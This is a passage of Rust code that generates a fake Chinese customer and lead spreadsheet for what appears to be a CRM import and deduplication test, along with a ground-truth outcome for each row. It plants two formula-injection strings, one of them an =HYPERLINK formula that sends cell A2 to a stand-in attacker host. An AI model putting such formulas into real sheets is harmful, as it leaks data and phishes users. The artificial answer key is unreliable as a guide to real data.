            if self.domains.insert(d.clone()) {
                return d;
            }
            n += 1;
        }
    }

    fn email(&mut self, local: &str, domain: &str) -> String {
        let mut n = 1;
        loop {
            let e = if n == 1 {
                format!("{local}@{domain}")
            } else {
                format!("{local}{n}@{domain}")
            };
            if self.emails.insert(e.to_lowercase()) {
                return e.to_lowercase();
            }
            n += 1;
        }
    }

    /// A Chinese name (display, surname pinyin, given-name pinyin).
    fn chinese_name(&mut self) -> (String, String, String) {
        let (s, sp) = *pick(&mut self.rng, &SURNAMES);
        let (g1, p1) = *pick(&mut self.rng, &GIVEN);
        if self.rng.random_bool(0.7) {
            let (g2, p2) = *pick(&mut self.rng, &GIVEN);
            (format!("{s}{g1}{g2}"), sp.to_string(), format!("{p1}{p2}"))
        } else {
            (format!("{s}{g1}"), sp.to_string(), p1.to_string())
        }
    }

    /// A person's name not used before (customers of type individual).
    fn unique_person(&mut self) -> (String, String, String) {
        loop {
            let n = self.chinese_name();
            if self.persons.insert(n.0.clone()) {
                return n;
            }
        }
    }
}

// ---------------------------------------------------------------------------------
// Customers
// ---------------------------------------------------------------------------------

#[derive(Clone)]
enum Name {
    Zh {
        city: usize,
        brand: usize,
        ind: usize,
        word: usize,
        paren: bool,
        suffix: &'static str,
    },
    En {
        adj: usize,
        noun: usize,
        ind: usize,
        word: usize,
        city: Option<usize>,
        suffix: &'static str,
    },
    Person(String),
}

impl Name {
    fn first(&self) -> String {
        match self {
            Name::Zh {
                city,
                brand,
                ind,
                word,
                paren,
                suffix,
            } => {
                let (c, b, w) = (
                    CITIES[*city].zh,
                    BRANDS[*brand].0,
                    INDUSTRIES[*ind].words[*word].0,
                );
                if *paren {
                    format!("{b}（{c}）{w}{suffix}")
                } else {
                    format!("{c}{b}{w}{suffix}")
                }
            }
            Name::En {
                adj,
                noun,
                ind,
                word,
                city,
                suffix,
            } => {
                let mut s = format!(
                    "{} {} {}",
                    ADJS[*adj], NOUNS[*noun], INDUSTRIES[*ind].words[*word].1
                );
                if let Some(c) = city {
                    s.push_str(&format!(" ({})", CITIES[*c].py));
                }
                format!("{s} {suffix}")
            }
            Name::Person(n) => n.clone(),
        }
    }

    /// Another spelling of the same name: legal suffix, spaces, width, case.
    fn variant(&self, rng: &mut StdRng) -> String {
        match self {
            Name::Zh {
                city,
                brand,
                ind,
                word,
                paren,
                ..
            } => {
                let c = CITIES[*city].zh;
                let mut b = BRANDS[*brand].0.to_string();
                if b.chars().any(|ch| ch.is_ascii_alphabetic()) {
                    match rng.random_range(0..4) {
                        0 | 1 => b = full_width(&b),
                        2 => b = b.to_lowercase(),
                        _ => {}
                    }
                }
                let w = INDUSTRIES[*ind].words[*word].0;
                let suffix = *pick(rng, &ZH_VARIANT_SUFFIXES);
                let spaced = rng.random_bool(0.3);
                let sep = match (spaced, rng.random_bool(0.3)) {
                    (false, _) => "",
                    (true, false) => " ",
                    (true, true) => "  ",
                };
                let core = if *paren {
                    let (l, r) = if rng.random_bool(0.5) {
                        ("(", ")")
                    } else {
                        ("（", "）")
                    };
                    format!("{b}{sep}{l}{c}{r}{sep}{w}")
                } else {
                    format!("{c}{sep}{b}{sep}{w}")
                };
                let sep2 = if spaced && !suffix.is_empty() {
                    " "
                } else {
                    ""
                };
                format!("{core}{sep2}{suffix}")
            }
            Name::En {
                adj,
                noun,
                ind,
                word,
                city,
                ..
            } => {
                let mut s = format!(
                    "{} {} {}",
                    ADJS[*adj], NOUNS[*noun], INDUSTRIES[*ind].words[*word].1
                );
                if let Some(c) = city {
                    s.push_str(&format!(" ({})", CITIES[*c].py));
                }
                let suffix = *pick(rng, &EN_VARIANT_SUFFIXES);
                if !suffix.is_empty() {
                    s.push(' ');
                    s.push_str(suffix);
                }
                match rng.random_range(0..10) {
                    0 | 1 => s.to_uppercase(),
                    2 => s.to_lowercase(),
                    3 => s.replacen(' ', "  ", 1),
                    4 => full_width(&s),
                    _ => s,
                }
            }
            Name::Person(n) => {
                let mut cs = n.chars();
                let first: String = cs.next().into_iter().collect();
                format!("{first} {}", cs.as_str())
            }
        }
    }
}

struct Cust {
    /// The row (0-based) it first appears in.
    row: usize,
    name: Name,
    first_raw: String,
    person: bool,
    industry: usize,
    source: usize,
    scale: usize,
    capital: u64,
    city: usize,
    address: String,
    phone: Phone,
    phone_style: usize,
    /// The first row wrote the phone as text (so a later row may share it, in another
    /// format).
    phone_text: bool,
    email: String,
    website: String,
    level: usize,
    /// Which columns the first row filled.
    written: [bool; C_COLS],
}

const CAPITALS: [u64; 14] = [
    500_000,
    1_000_000,
    2_000_000,
    3_000_000,
    5_000_000,
    8_000_000,
    10_000_000,
    20_000_000,
    30_000_000,
    50_000_000,
    100_000_000,
    150_000_000,
    200_000_000,
    500_000_000,
];

fn new_customer(ctx: &mut Ctx, person: bool) -> Res<Cust> {
    let city = ctx.rng.random_range(0..CITIES.len());
    let (name, domain) = if person {
        let (n, sp, gp) = ctx.unique_person();
        let mailbox = *pick(&mut ctx.rng, &MAILBOXES);
        (Name::Person(n), format!("{gp}{sp}|{mailbox}"))
    } else {
        let mut tries = 0;
        loop {
            tries += 1;
            if tries > 100_000 {
                return Err("ran out of company names".into());
            }
            let ind = ctx.rng.random_range(0..INDUSTRIES.len());
            let word = ctx.rng.random_range(0..INDUSTRIES[ind].words.len());
            let (name, stem, tld) = if ctx.rng.random_bool(0.1) {
                let adj = ctx.rng.random_range(0..ADJS.len());
                let noun = ctx.rng.random_range(0..NOUNS.len());
                if !ctx.customer_en.insert((adj, noun, ind, word)) {
                    continue;
                }
                let name = Name::En {
                    adj,
                    noun,
                    ind,
                    word,
                    city: ctx.rng.random_bool(0.4).then_some(city),
                    suffix: EN_SUFFIXES[ctx.rng.random_range(0..EN_SUFFIXES.len())],
                };
                let stem = format!(
                    "{}{}-{}",
                    ADJS[adj].to_lowercase(),
                    NOUNS[noun].to_lowercase(),
                    INDUSTRIES[ind].words[word].2
                );
                (name, stem, "example.com")
            } else {
                let brand = ctx.rng.random_range(0..BRANDS.len());
                if !ctx.customer_pairs.insert((brand, ind, word)) {
                    continue;
                }
                let name = Name::Zh {
                    city,
                    brand,
                    ind,
                    word,
                    paren: ctx.rng.random_bool(0.08),
                    suffix: ZH_SUFFIXES[ctx.rng.random_range(0..ZH_SUFFIXES.len())],
                };
                let stem = format!("{}-{}", BRANDS[brand].1, INDUSTRIES[ind].words[word].2);
                (name, stem, "example.cn")
            };
            let key = company_key(&name.first()).ok_or("empty company key")?;
            if !ctx.company_keys.insert(key) {
                continue;
            }
            let domain = ctx.domain(&stem, tld);
            break (name, domain);
        }
    };
    let industry = match &name {
        Name::Zh { ind, .. } | Name::En { ind, .. } => *ind,
        Name::Person(_) => OTHER_INDUSTRY,
    };
    let (email, website) = match domain.split_once('|') {
        Some((local, mailbox)) => (ctx.email(local, mailbox), String::new()),
        None => {
            let prefix = *pick(&mut ctx.rng, &MAIL_PREFIXES);
            let website = match ctx.rng.random_range(0..3) {
                0 => format!("https://www.{domain}"),
                1 => format!("http://www.{domain}"),
                _ => format!("https://{domain}/"),
            };
            (ctx.email(prefix, &domain), website)
        }
    };
    let phone = if person || ctx.rng.random_bool(0.3) {
        ctx.mobile()
    } else {
        ctx.landline(city)
    };
    let phone_style = ctx.rng.random_range(0..phone.styles());
    let c = &CITIES[city];
    let address = format!(
        "{}市{}{}{}号",
        c.zh,
        pick(&mut ctx.rng, c.districts),
        pick(&mut ctx.rng, &ROADS),
        ctx.rng.random_range(1..999)
    );
    let first_raw = name.first();
    let mut cust = Cust {
        row: 0,
        name,
        first_raw,
        person,
        industry,
        source: ctx.rng.random_range(0..SOURCES.len()),
        scale: ctx.rng.random_range(0..SCALES.len()),
        capital: *pick(&mut ctx.rng, &CAPITALS),
        city,
        address,
        phone,
        phone_style,
        phone_text: true,
        email,
        website,
        level: ctx.rng.random_range(0..LEVELS.len()),
        written: [false; C_COLS],
    };
    // What the first row fills (name and type always).
    let probs: [(usize, f64); 11] = [
        (C_INDUSTRY, 0.9),
        (C_SOURCE, 0.85),
        (C_SCALE, 0.75),
        (C_CAPITAL, 0.65),
        (C_REGION, 0.85),
        (C_CITY, 0.9),
        (C_ADDRESS, 0.6),
        (C_PHONE, 0.9),
        (C_EMAIL, 0.6),
        (C_WEBSITE, 0.45),
        (C_LEVEL, 0.75),
    ];
    cust.written[C_NAME] = true;
    cust.written[C_TYPE] = true;
    for (col, p) in probs {
        cust.written[col] = ctx.rng.random_bool(p);
    }
    if person {
        cust.written[C_SCALE] = false;
        cust.written[C_CAPITAL] = false;
        cust.written[C_WEBSITE] = false;
    }
    if ctx.rng.random_bool(0.03) {
        cust.first_raw = pad(&mut ctx.rng, &cust.first_raw);
    }
    Ok(cust)
}

/// A customer row filling the columns in `w`.
fn customer_cells(
    rng: &mut StdRng,
    e: &Cust,
    name: String,
    w: &[bool; C_COLS],
    phone: Cell,
) -> Vec<Cell> {
    let mut cells = vec![Cell::Empty; C_COLS];
    let text = |s: String| Cell::Text(s);
    cells[C_NAME] = text(name);
    cells[C_TYPE] = text(spell(rng, &TYPES[usize::from(e.person)]));
    if w[C_INDUSTRY] {
        cells[C_INDUSTRY] = text(spell(rng, &INDUSTRIES[e.industry].opt));
    }
    if w[C_SOURCE] {
        cells[C_SOURCE] = text(spell(rng, &SOURCES[e.source]));
    }
    if w[C_SCALE] {
        cells[C_SCALE] = text(spell(rng, &SCALES[e.scale]));
    }
    if w[C_CAPITAL] {
        cells[C_CAPITAL] = capital_cell(rng, e.capital);
    }
    if w[C_REGION] {
        cells[C_REGION] = text(spell(rng, &REGIONS[CITIES[e.city].region]));
    }
    if w[C_CITY] {
        cells[C_CITY] = text(city_text(rng, e.city));
    }
    if w[C_ADDRESS] {
        cells[C_ADDRESS] = text(maybe_pad(rng, e.address.clone(), 0.03));
    }
    cells[C_PHONE] = phone;
    if w[C_EMAIL] {
        cells[C_EMAIL] = text(email_text(rng, &e.email));
    }
    if w[C_WEBSITE] {
        cells[C_WEBSITE] = text(e.website.clone());
    }
    if w[C_LEVEL] {
        cells[C_LEVEL] = text(spell(rng, &LEVELS[e.level]));
    }
    if rng.random_bool(0.06) {
        cells[C_NOTE] = text(pick(rng, &CUSTOMER_NOTES).to_string());
    }
    cells
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Plan {
    New,
    Dup,
    Flag,
    Invalid,
}

fn plan(rng: &mut StdRng, rows: usize, head: usize, counts: &[(Plan, usize)]) -> Vec<Plan> {
    let special: usize = counts.iter().map(|c| c.1).sum();
    let mut rest: Vec<Plan> = vec![Plan::New; rows - head - special];
    for (p, n) in counts {
        rest.extend(std::iter::repeat_n(*p, *n));
    }
    rest.shuffle(rng);
    let mut all = vec![Plan::New; head];
    all.extend(rest);
    all
}

struct Customers {
    rows: Vec<Vec<Cell>>,
    truth: Vec<Truth>,
}

fn customer_defects(rng: &mut StdRng) -> Vec<(usize, &'static str)> {
    let mut d = Vec::new();
    let spread: [(usize, &str, usize); 8] = [
        (C_NAME, "required", 10),
        (C_EMAIL, "email", 12),
        (C_INDUSTRY, "select", 8),
        (C_REGION, "select", 6),
        (C_LEVEL, "select", 5),
        (C_SOURCE, "select", 4),
        (C_SCALE, "select", 3),
        (C_CAPITAL, "number", 12),
    ];
    for (col, reason, n) in spread {
        d.extend(std::iter::repeat_n((col, reason), n));
    }
    d.shuffle(rng);
    d
}

fn generate_customers(ctx: &mut Ctx) -> Res<Customers> {
    let kinds = plan(
        &mut ctx.rng,
        CUSTOMER_ROWS,
        40,
        &[
            (Plan::Dup, CUSTOMER_DUPS),
            (Plan::Flag, CUSTOMER_FLAGS),
            (Plan::Invalid, CUSTOMER_INVALID),
        ],
    );
    let mut defects = customer_defects(&mut ctx.rng);
    if defects.len() != CUSTOMER_INVALID {
        return Err("customer defects do not add up".into());
    }
    // Entities that became records (created or flagged).
    let mut entities: Vec<Cust> = Vec::new();
    let mut out = Customers {
        rows: Vec::with_capacity(CUSTOMER_ROWS),
        truth: Vec::with_capacity(CUSTOMER_ROWS),
    };
    for (i, kind) in kinds.into_iter().enumerate() {
        match kind {
            Plan::New => {
                let person = ctx.rng.random_bool(0.05);
                let mut e = new_customer(ctx, person)?;
                e.row = i;
                let phone = if !e.written[C_PHONE] {
                    Cell::Empty
                } else if matches!(e.phone, Phone::Mobile(_)) && ctx.rng.random_bool(0.02) {
                    // Excel turned the mobile number into a number.
                    e.phone_text = false;
                    match &e.phone {
                        Phone::Mobile(m) => Cell::Num(m.parse::<f64>()?),
                        Phone::Land { .. } => Cell::Empty,
                    }
                } else {
                    Cell::Text(e.phone.format(e.phone_style))
                };
                let w = e.written;
                let cells = customer_cells(&mut ctx.rng, &e, e.first_raw.clone(), &w, phone);
                out.rows.push(cells);
                out.truth.push(Truth::of(Kind::Created));
                entities.push(e);
            }
            Plan::Flag => {
                // A distinct company sharing an earlier record's phone, written otherwise.
                let targets: Vec<usize> = (0..entities.len())
                    .filter(|&j| entities[j].written[C_PHONE] && entities[j].phone_text)
                    .collect();
                let t = *pick(&mut ctx.rng, &targets);
                let mut e = new_customer(ctx, false)?;
                e.row = i;
                e.phone = entities[t].phone.clone();
                e.phone_style = e.phone.other_style(&mut ctx.rng, entities[t].phone_style);
                e.written[C_PHONE] = true;
                let phone = Cell::Text(e.phone.format(e.phone_style));
                let w = e.written;
                let cells = customer_cells(&mut ctx.rng, &e, e.first_raw.clone(), &w, phone);
                out.rows.push(cells);
                out.truth.push(Truth::like(Kind::Flagged, entities[t].row));
                entities.push(e);
            }
            Plan::Dup => {
                let t = ctx.rng.random_range(0..entities.len());
                let e = &entities[t];
                let mut w = [false; C_COLS];
                w[C_NAME] = true;
                w[C_TYPE] = true;
                for col in [
                    C_INDUSTRY, C_SOURCE, C_SCALE, C_CAPITAL, C_REGION, C_CITY, C_ADDRESS, C_EMAIL,
                    C_WEBSITE, C_LEVEL,
                ] {
                    // Present in the first row: repeated (in any spelling) or left out;
                    // missing there: sometimes filled now (what the merge fills in).
                    w[col] = ctx.rng.random_bool(if e.written[col] { 0.6 } else { 0.5 });
                }
                if e.person {
                    w[C_SCALE] = false;
                    w[C_CAPITAL] = false;
                    w[C_WEBSITE] = false;
                }
                // The phone: the same number in another format, or nothing.
                let phone = if e.written[C_PHONE] && ctx.rng.random_bool(0.5) {
                    let s = e.phone.other_style(&mut ctx.rng, e.phone_style);
                    Cell::Text(e.phone.format(s))
                } else {
                    Cell::Empty
                };
                let mut name = e.name.variant(&mut ctx.rng);
                while name == e.first_raw.trim() {
                    name = e.name.variant(&mut ctx.rng);
                }
                let name = maybe_pad(&mut ctx.rng, name, 0.05);
                let cells = customer_cells(&mut ctx.rng, e, name, &w, phone);
                out.rows.push(cells);
                out.truth.push(Truth::like(Kind::Merged, e.row));
            }
            Plan::Invalid => {
                let (col, reason) = defects.pop().ok_or("no defect left")?;
                let e = new_customer(ctx, false)?;
                let w = e.written;
                let phone = if w[C_PHONE] {
                    Cell::Text(e.phone.format(e.phone_style))
                } else {
                    Cell::Empty
                };
                let mut cells = customer_cells(&mut ctx.rng, &e, e.first_raw.clone(), &w, phone);
                let (local, domain) = e.email.split_once('@').ok_or("bad email")?;
                let rng = &mut ctx.rng;
                cells[col] = match col {
                    C_NAME => Cell::Empty,
                    C_EMAIL => Cell::Text(match rng.random_range(0..4) {
                        0 => format!("{local}.{domain}"),
                        1 => format!("{local}#{domain}"),
                        2 => format!("{local}(at){domain}"),
                        _ => format!("{local} at {domain}"),
                    }),
                    C_INDUSTRY => {
                        Cell::Text(pick(rng, &["火星采矿", "航天军工", "Mining"]).to_string())
                    }
                    C_REGION => Cell::Text(pick(rng, &["东北", "Northeast", "华西"]).to_string()),
                    C_LEVEL => Cell::Text(pick(rng, &["D", "VIP", "S级"]).to_string()),
                    C_SOURCE => {
                        Cell::Text(pick(rng, &["地推", "电话营销", "Cold call"]).to_string())
                    }
                    C_SCALE => Cell::Text(pick(rng, &["很大", "500人", "huge"]).to_string()),
                    _ => {
                        Cell::Text(pick(rng, &["待定", "about 50", "约500万", "5OO万"]).to_string())
                    }
                };
                out.rows.push(cells);
                out.truth.push(Truth::rejected(col, reason));
            }
        }
    }
    // Formula-injection attempts in the note column: text, never formulas.
    out.rows[101][C_NOTE] = Cell::Text(
        "=HYPERLINK(\"http://attacker.example.com/?leak=\"&A2,\"点击查看合同\")".to_string(),
    );
    out.rows[1203][C_NOTE] =
        Cell::Text("=HYPERLINK(\"https://phish.example.net\",\"官网链接\")".to_string());
    Ok(out)
}

fn write_customers(path: &Path, c: &Customers) -> Res<()> {
    let mut wb = Workbook::new();
    let props = DocProperties::new()
        .set_title("客户名单")
        .set_author("销售部")
        .set_creation_datetime(&ExcelDateTime::from_ymd(2024, 6, 30)?);
    wb.set_properties(&props);
    let bold = Format::new().set_bold();

    let notes = wb.add_worksheet();
    notes.set_name("说明")?;
    let lines = [
        "客户名单（汇总表）",
        "来源：各区域销售 2019–2024 年的客户表合并，含展会名片录入和旧 ERP 导出。",
        "同一客户可能出现多次（不同销售各自录入，写法不一），电话格式不统一，部分字段为空。",
        "注册资本单位：元，部分按“万元”填写。",
        "客户数据在“客户”工作表；本表仅为说明。",
        "示例数据，纯属虚构。",
    ];
    notes.write_string_with_format(0, 0, lines[0], &bold)?;
    for (i, l) in lines.iter().enumerate().skip(1) {
        notes.write_string(u32::try_from(i)?, 0, *l)?;
    }
    notes.set_column_width(0, 90)?;

    let ws = wb.add_worksheet();
    ws.set_name("客户")?;
    for (i, h) in CUSTOMER_HEADERS.iter().enumerate() {
        ws.write_string_with_format(0, u16::try_from(i)?, *h, &bold)?;
    }
    let widths = [34, 10, 16, 14, 14, 16, 12, 10, 36, 20, 30, 32, 16, 24];
    for (i, w) in widths.iter().enumerate() {
        ws.set_column_width(u16::try_from(i)?, *w)?;
    }
    for (r, row) in c.rows.iter().enumerate() {
        let r = u32::try_from(r + 1)?;
        for (col, cell) in row.iter().enumerate() {
            let col = u16::try_from(col)?;
            match cell {
                Cell::Empty => {}
                Cell::Text(s) => {
                    ws.write_string(r, col, s)?;
                }
                Cell::Num(n) => {
                    ws.write_number(r, col, *n)?;
                }
            }
        }
    }
    wb.save(path)?;
    Ok(())
}

// ---------------------------------------------------------------------------------
// Leads
// ---------------------------------------------------------------------------------

struct LeadCo {
    name: String,
    domain: String,
    english: bool,
    city: usize,
    industry: usize,
}

struct Lead {
    /// The row (0-based) it first appears in.
    row: usize,
    co: usize,
    contact: String,
    local: String,
    title: String,
    phone: Option<Phone>,
    phone_style: usize,
    /// Lower case; `None` when the row has no e-mail.
    email: Option<String>,
    email_raw: String,
    source: usize,
    employees: u32,
    budget: u64,
    interest: usize,
    downloaded: bool,
    visits: u32,
    status: usize,
    first_at: DateTime,
}

fn new_lead_company(ctx: &mut Ctx) -> LeadCo {
    loop {
        let city = ctx.rng.random_range(0..CITIES.len());
        let ind = ctx.rng.random_range(0..INDUSTRIES.len());
        let word = ctx.rng.random_range(0..INDUSTRIES[ind].words.len());
        let (zh, en, py) = INDUSTRIES[ind].words[word];
        let (name, stem, tld, english) = if ctx.rng.random_bool(0.08) {
            let adj = *pick(&mut ctx.rng, &ADJS);
            let noun = *pick(&mut ctx.rng, &NOUNS);
            let suffix = *pick(&mut ctx.rng, &EN_SUFFIXES);
            let name = if ctx.rng.random_bool(0.5) {
                format!("{adj} {noun} {en} ({}) {suffix}", CITIES[city].py)
            } else {
                format!("{adj} {noun} {en} {suffix}")
            };
            let stem = format!("{}{}-{py}", adj.to_lowercase(), noun.to_lowercase());
            (name, stem, "example.com", true)
        } else {
            let (b, bp) = *pick(&mut ctx.rng, &BRANDS);
            let suffix = *pick(
                &mut ctx.rng,
                &[
                    "有限公司",
                    "有限公司",
                    "有限公司",
                    "股份有限公司",
                    "有限责任公司",
                    "",
                ],
            );
            let name = format!("{}{b}{zh}{suffix}", CITIES[city].zh);
            (name, format!("{bp}-{py}"), "example.cn", false)
        };
        if !ctx.lead_companies.insert(name.clone()) {
            continue;
        }
        let domain = ctx.domain(&stem, tld);
        return LeadCo {
            name,
            domain,
            english,
            city,
            industry: ind,
        };
    }
}

/// A contact at `co`: (display name, e-mail local part).
fn contact(ctx: &mut Ctx, english: bool) -> (String, String) {
    if english && ctx.rng.random_bool(0.6) {
        let first = *pick(&mut ctx.rng, &EN_FIRST);
        let (_, sp) = *pick(&mut ctx.rng, &SURNAMES);
        let last = capitalize(sp);
        (
            format!("{first} {last}"),
            format!("{}.{sp}", first.to_lowercase()),
        )
    } else {
        loop {
            let (n, sp, gp) = ctx.chinese_name();
            if n == "张伟" {
                continue;
            }
            let local = match ctx.rng.random_range(0..4) {
                0 => format!("{gp}{sp}"),
                1 => format!("{sp}.{gp}"),
                2 => format!("{sp}{gp}"),
                _ => format!("{gp}.{sp}"),
            };
            return (n, local);
        }
    }
}

fn random_datetime(rng: &mut StdRng) -> DateTime {
    let y = rng.random_range(2024..=2026);
    let mo = if y == 2026 {
        rng.random_range(1..=11)
    } else {
        rng.random_range(1..=12)
    };
    (
        y,
        mo,
        rng.random_range(1..=28),
        rng.random_range(8..=19),
        rng.random_range(0..12) * 5,
    )
}

fn new_lead(ctx: &mut Ctx, co: usize, cos: &[LeadCo]) -> Lead {
    let c = &cos[co];
    let (name, local) = contact(ctx, c.english);
    let title = if c.english && ctx.rng.random_bool(0.6) {
        pick(&mut ctx.rng, &TITLES_EN).to_string()
    } else {
        pick(&mut ctx.rng, &TITLES_ZH).to_string()
    };
    let phone = if ctx.rng.random_bool(0.04) {
        None
    } else if ctx.rng.random_bool(0.85) {
        Some(ctx.mobile())
    } else {
        Some(ctx.landline(c.city))
    };
    let phone_style = phone
        .as_ref()
        .map_or(0, |p| ctx.rng.random_range(0..p.styles()));
    // The CRM wants a phone or an e-mail: a lead without a phone keeps its e-mail.
    let email = if phone.is_some() && ctx.rng.random_bool(0.04) {
        None
    } else {
        Some(ctx.email(&local, &c.domain))
    };
    let email_raw = match &email {
        Some(e) => email_text(&mut ctx.rng, e),
        None => String::new(),
    };
    let status = match ctx.rng.random_range(0..100) {
        0..45 => 0,
        45..80 => 1,
        _ => 2,
    };
    let employees = match ctx.rng.random_range(0..10) {
        0..4 => ctx.rng.random_range(5..100),
        4..8 => ctx.rng.random_range(100..1000),
        _ => ctx.rng.random_range(1000..6000),
    };
    Lead {
        row: 0,
        co,
        contact: name,
        local,
        title,
        phone,
        phone_style,
        email,
        email_raw,
        source: ctx.rng.random_range(0..SOURCES.len()),
        employees,
        budget: ctx.rng.random_range(2..=200) * 5_000,
        interest: ctx.rng.random_range(0..PRODUCTS.len()),
        downloaded: ctx.rng.random_bool(0.35),
        visits: ctx.rng.random_range(0..=25),
        status,
        first_at: random_datetime(&mut ctx.rng),
    }
}

/// A lead row. `keep` scales how many optional columns are filled.
fn lead_cells(
    rng: &mut StdRng,
    e: &Lead,
    cos: &[LeadCo],
    email: String,
    phone: String,
    keep: f64,
) -> Vec<String> {
    let c = &cos[e.co];
    let mut r = vec![String::new(); L_COLS];
    let mut fill = |p: f64| rng.random_bool(p * keep);
    let want: [bool; L_COLS] = {
        let mut w = [false; L_COLS];
        w[L_TITLE] = fill(0.9);
        w[L_INDUSTRY] = fill(0.9);
        w[L_REGION] = fill(0.85);
        w[L_CITY] = fill(0.92);
        w[L_EMPLOYEES] = fill(0.85);
        w[L_BUDGET] = fill(0.8);
        w[L_INTEREST] = fill(0.75);
        w[L_DOWNLOADED] = fill(0.8);
        w[L_VISITS] = fill(0.9);
        w[L_FIRST_AT] = e.status != 0 && fill(0.85);
        w
    };
    r[L_COMPANY] = maybe_pad(rng, c.name.clone(), 0.03);
    r[L_CONTACT] = maybe_pad(rng, e.contact.clone(), 0.02);
    if want[L_TITLE] {
        r[L_TITLE] = e.title.clone();
    }
    r[L_PHONE] = phone;
    r[L_EMAIL] = email;
    r[L_SOURCE] = spell(rng, &SOURCES[e.source]);
    if want[L_INDUSTRY] {
        r[L_INDUSTRY] = spell(rng, &INDUSTRIES[c.industry].opt);
    }
    if want[L_REGION] {
        r[L_REGION] = spell(rng, &REGIONS[CITIES[c.city].region]);
    }
    if want[L_CITY] {
        r[L_CITY] = city_text(rng, c.city);
    }
    if want[L_EMPLOYEES] {
        r[L_EMPLOYEES] = if e.employees >= 1000 && rng.random_bool(0.6) {
            thousands(u64::from(e.employees))
        } else {
            e.employees.to_string()
        };
    }
    if want[L_BUDGET] {
        r[L_BUDGET] = budget_text(rng, e.budget);
    }
    if want[L_INTEREST] {
        r[L_INTEREST] = maybe_pad(rng, PRODUCTS[e.interest].to_string(), 0.03);
    }
    if want[L_DOWNLOADED] {
        r[L_DOWNLOADED] = bool_text(rng, e.downloaded);
    }
    if want[L_VISITS] {
        r[L_VISITS] = e.visits.to_string();
    }
    r[L_STATUS] = spell(rng, &STATUSES[e.status]);
    if want[L_FIRST_AT] {
        r[L_FIRST_AT] = datetime_text(rng, e.first_at);
    }
    if rng.random_bool(0.05) {
        r[L_NOTE] = pick(rng, &LEAD_NOTES).to_string();
    }
    r
}

fn lead_defects(rng: &mut StdRng) -> Vec<(usize, &'static str)> {
    let spread: [(usize, &str, usize); 13] = [
        (L_COMPANY, "required", 8),
        (L_CONTACT, "required", 7),
        (L_SOURCE, "required", 7),
        (L_EMAIL, "email", 12),
        (L_SOURCE, "select", 6),
        (L_INDUSTRY, "select", 6),
        (L_REGION, "select", 5),
        (L_STATUS, "select", 5),
        (L_EMPLOYEES, "number", 6),
        (L_BUDGET, "number", 6),
        (L_VISITS, "number", 4),
        (L_FIRST_AT, "date", 10),
        (L_INTEREST, "relation", 8),
    ];
    let mut d = Vec::new();
    for (col, reason, n) in spread {
        d.extend(std::iter::repeat_n((col, reason), n));
    }
    d.shuffle(rng);
    d
}

struct Leads {
    rows: Vec<Vec<String>>,
    truth: Vec<Truth>,
}

fn generate_leads(ctx: &mut Ctx) -> Res<Leads> {
    let kinds = plan(
        &mut ctx.rng,
        LEAD_ROWS,
        50,
        &[
            (Plan::Dup, LEAD_SKIPS),
            (Plan::Flag, LEAD_FLAGS),
            (Plan::Invalid, LEAD_INVALID),
        ],
    );
    let mut defects = lead_defects(&mut ctx.rng);
    if defects.len() != LEAD_INVALID {
        return Err("lead defects do not add up".into());
    }
    let mut cos: Vec<LeadCo> = Vec::new();
    // Leads that became records (created or flagged).
    let mut leads: Vec<Lead> = Vec::new();
    let mut out = Leads {
        rows: Vec::with_capacity(LEAD_ROWS),
        truth: Vec::with_capacity(LEAD_ROWS),
    };
    for (i, kind) in kinds.into_iter().enumerate() {
        match kind {
            Plan::New => {
                let co = new_lead_company(ctx);
                cos.push(co);
                let mut e = new_lead(ctx, cos.len() - 1, &cos);
                e.row = i;
                let phone = e
                    .phone
                    .as_ref()
                    .map_or(String::new(), |p| p.format(e.phone_style));
                let cells = lead_cells(&mut ctx.rng, &e, &cos, e.email_raw.clone(), phone, 1.0);
                out.rows.push(cells);
                out.truth.push(Truth::of(Kind::Created));
                leads.push(e);
            }
            Plan::Dup => {
                // The same lead entered again: its e-mail in other case or spacing.
                let targets: Vec<usize> = (0..leads.len())
                    .filter(|&j| leads[j].email.is_some())
                    .collect();
                let t = &leads[*pick(&mut ctx.rng, &targets)];
                let email = email_variant(
                    &mut ctx.rng,
                    t.email.as_deref().unwrap_or_default(),
                    &t.email_raw,
                );
                let phone = match &t.phone {
                    Some(p) if ctx.rng.random_bool(0.6) => {
                        let s = p.other_style(&mut ctx.rng, t.phone_style);
                        p.format(s)
                    }
                    _ => String::new(),
                };
                let cells = lead_cells(&mut ctx.rng, t, &cos, email, phone, 0.6);
                out.rows.push(cells);
                out.truth.push(Truth::like(Kind::Skipped, t.row));
            }
            Plan::Flag => {
                // A new e-mail, but an earlier lead's phone in another format: a
                // colleague on the switchboard number, or the same person again with a
                // private mailbox.
                let targets: Vec<usize> = (0..leads.len())
                    .filter(|&j| leads[j].phone.is_some())
                    .collect();
                let ti = *pick(&mut ctx.rng, &targets);
                let mut e = new_lead(ctx, leads[ti].co, &cos);
                e.row = i;
                let t = &leads[ti];
                if ctx.rng.random_bool(0.5) {
                    e.contact = t.contact.clone();
                    e.title = t.title.clone();
                    let mailbox = *pick(&mut ctx.rng, &MAILBOXES);
                    let local = format!(
                        "{}{}",
                        t.local.replace('.', ""),
                        ctx.rng.random_range(1..99)
                    );
                    e.email = Some(ctx.email(&local, mailbox));
                    e.local = local;
                } else if e.email.is_none() {
                    e.email = Some(ctx.email(&e.local, &cos[e.co].domain));
                }
                e.email_raw = email_text(&mut ctx.rng, e.email.as_deref().unwrap_or_default());
                let p = t.phone.clone().ok_or("target without phone")?;
                e.phone_style = p.other_style(&mut ctx.rng, t.phone_style);
                e.phone = Some(p);
                let phone = e
                    .phone
                    .as_ref()
                    .map_or(String::new(), |p| p.format(e.phone_style));
                let cells = lead_cells(&mut ctx.rng, &e, &cos, e.email_raw.clone(), phone, 1.0);
                out.rows.push(cells);
                out.truth.push(Truth::like(Kind::Flagged, t.row));
                leads.push(e);
            }
            Plan::Invalid => {
                let (col, reason) = defects.pop().ok_or("no defect left")?;
                let co = new_lead_company(ctx);
                cos.push(co);
                let mut e = new_lead(ctx, cos.len() - 1, &cos);
                if e.email.is_none() {
                    e.email = Some(ctx.email(&e.local, &cos[e.co].domain));
                    e.email_raw = e.email.clone().unwrap_or_default();
                }
                if col == L_FIRST_AT && e.status == 0 {
                    e.status = 1;
                }
                let phone = e
                    .phone
                    .as_ref()
                    .map_or(String::new(), |p| p.format(e.phone_style));
                let mut cells = lead_cells(&mut ctx.rng, &e, &cos, e.email_raw.clone(), phone, 1.0);
                let domain = &cos[e.co].domain;
                let rng = &mut ctx.rng;
                cells[col] = match (col, reason) {
                    (_, "required") => String::new(),
